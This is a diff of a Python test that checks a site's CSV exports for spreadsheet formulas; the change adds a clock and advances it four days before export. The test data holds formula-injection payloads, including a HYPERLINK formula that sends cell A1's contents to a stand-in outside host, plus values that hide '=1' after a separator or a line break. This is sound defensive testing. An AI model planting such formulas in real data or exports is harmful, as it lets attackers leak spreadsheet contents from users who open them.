@@ -15,10 +15,11 @@ FORMULA = '=HYPERLINK("https://elsewhere.example/?"&A1,"answer")'
 PATHS = [route.path for route in routes(demo=True) if isinstance(route, Route) and route.path.endswith(".csv")]
 
 
-async def _fill(visitor: Visitor) -> None:
+async def _fill(visitor: Visitor, time: Clock) -> None:
     await visitor.confirmed(ADDRESS, "PL", named="on", name=FORMULA, updates="on")
     for n, name in enumerate(value for value in HOSTILE if value.isprintable()):
         await visitor.confirmed(f"anna{n}@example.net", "PL", named="on", name=f"{name} A")
+    time.advance(days=4)  # names and addresses are exported after three
     await visitor.organiser("marta", "admin")
     for key, summary in zip(("PL", "DE", "FR"), (FORMULA, "x;=1", "ok\r\n=1"), strict=True):
         fields = {"sent": "2026-11-01", "answered": "2026-11-02", "stance": "supports", "language": "en"}
@@ -27,7 +28,7 @@ async def _fill(visitor: Visitor) -> None:
 
 @on_sqlite
 async def test_no_csv_of_the_site_has_a_formula(time: Clock, visitor: Visitor, tmp_path: Path) -> None:
-    await _fill(visitor)
+    await _fill(visitor, time)
     await visitor.published()
     for path in PATHS:
         answer = await visitor.get(path)
